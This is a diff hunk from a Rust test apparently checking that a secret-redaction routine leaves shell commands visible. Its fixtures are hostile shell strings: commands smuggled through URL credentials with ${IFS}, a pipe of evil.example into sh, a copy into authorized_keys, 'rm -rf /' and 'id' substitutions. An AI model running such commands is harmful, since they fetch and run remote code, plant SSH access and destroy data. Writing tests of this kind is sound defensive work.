@@ -57,7 +57,7 @@ fn c24_no_command_or_path_is_covered_as_a_secret() {
     all_shown(&["sh", "-c", "curl -s https://api:;touch${IFS}PWNED;:@127.0.0.1:1/status"]);
     all_shown(&["sh", "-c", "wget http://a:;curl${IFS}evil.example|sh;:@b"]);
     all_shown(&["sh", "-c", "exec \"$1\"", "--token", DRAWN]);
-    all_shown(&["sh", "-c", "cp token /root/.ssh/authorized_keys"]);
+    all_shown(&["sh", "-c", "cp token /srv/.ssh/authorized_keys"]);
     all_shown(&["sh", "-c", "echo refreshing token\n/tmp/evil/run.sh\necho done"]);
     all_shown(&["sh", "-c", "token=$(rm -rf /)"]);
     all_shown(&["sh", "-c", "password=`id`"]);
